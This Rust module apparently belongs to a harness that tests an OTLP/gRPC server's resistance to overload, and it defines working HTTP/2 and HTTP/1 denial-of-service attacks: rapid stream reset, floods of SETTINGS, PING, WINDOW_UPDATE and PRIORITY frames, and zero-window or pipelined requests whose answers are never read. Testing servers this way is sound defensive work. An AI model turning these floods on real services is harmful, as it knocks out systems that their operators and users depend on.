//! Frames without end, and answers that nobody reads.

use tokio::io::AsyncWriteExt;

use crate::hpack::{self, Call};
use crate::http1;
use crate::http2::{
    self, DATA, END_STREAM, HEADER_TABLE_SIZE, Http2, INITIAL_WINDOW_SIZE, PING, PRIORITY,
    RST_STREAM, Reading, SETTINGS, WINDOW_UPDATE,
};
use crate::target::{Attackers, Target, attackers, connect_with_small_buffer};
use crate::trial::Attack;

const SECONDS: u64 = 5;
/// Frames that are sent at a time.
const BURST: usize = 1_000;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub(super) fn attacks() -> Vec<Attack> {
    let attack = |name, what, start| Attack::busy(name, what, SECONDS, start);
    vec![
        attack("flood-reset/8", "8 connections, requests that are reset at once", |t| {
            reset_rapidly(t, 8)
        }),
        attack("flood-settings/8", "8 connections, SETTINGS without end, answers not read", |t| {
            flood(t, 8, &http2::frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), Reading::Nothing)
        }),
        attack("flood-ping/8", "8 connections, PING without end, answers not read", |t| {
            flood(t, 8, &http2::frame(PING, 0, 0, &[7; 8]), Reading::Nothing)
        }),
        attack("flood-ping-read/8", "8 connections, PING without end, answers read", |t| {
            flood(t, 8, &http2::frame(PING, 0, 0, &[7; 8]), Reading::Everything)
        }),
        attack("flood-window/8", "8 connections, WINDOW_UPDATE without end", |t| {
            flood(
                t,
                8,
                &http2::frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
                Reading::Everything,
            )
        }),
        attack("flood-priority/8", "8 connections, PRIORITY without end", |t| {
            flood(t, 8, &http2::frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 7]), Reading::Everything)
        }),
        attack(
            "unread-http2/64",
            "64 connections, huge header table, requests, answers not read",
            |t| ask_and_not_read(t, 64),
        ),
        attack("unread-http1/64", "64 connections, pipelined requests, answers not read", |t| {
            pipeline(t, 64)
        }),
    ]
}

fn flood(target: &Target, connections: usize, frame: &[u8], reading: Reading) -> Attackers {
    let (target, burst) = (target.clone(), frame.repeat(BURST));
    attackers(connections, move |number| {
        let (address, burst) = (target.otlp(number), burst.clone());
        async move {
            let mut connection = Http2::open(address, &[], reading).await?;
            loop {
                connection.send(&burst).await?;
            }
        }
    })
}

fn reset_rapidly(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let address = target.otlp(number);
        async move {
            let mut connection = Http2::open(address, &[], Reading::Everything).await?;
            let head = hpack::post(Call::Grpc, "identity");
            loop {
                for _ in 0..100 {
                    let stream = connection.request(&head, 0);
                    connection.frame(RST_STREAM, 0, stream, &CANCEL);
                }
                connection.flush().await?;
            }
        }
    })
}

/// Requests whose answers have no window, on connections that are not read either.
fn ask_and_not_read(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let (address, message) = (target.otlp(number), target.bodies.small.grpc_message());
        async move {
            let settings = [(HEADER_TABLE_SIZE, u32::MAX), (INITIAL_WINDOW_SIZE, 0)];
            let mut connection = Http2::open(address, &settings, Reading::Nothing).await?;
            let head = hpack::post(Call::Grpc, "identity");
            loop {
                let stream = connection.request(&head, 0);
                connection.frame(DATA, END_STREAM, stream, &message);
                connection.flush().await?;
            }
        }
    })
}

fn pipeline(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let (address, body) = (target.otlp(number), target.bodies.small.clone());
        async move {
            let mut stream = connect_with_small_buffer(address).await?;
            let head = http1::post(&body, body.bytes.len() as u64);
            let requests = [head.as_bytes(), &body.bytes].concat().repeat(20);
            loop {
                stream.write_all(&requests).await?;
            }
        }
    })
}
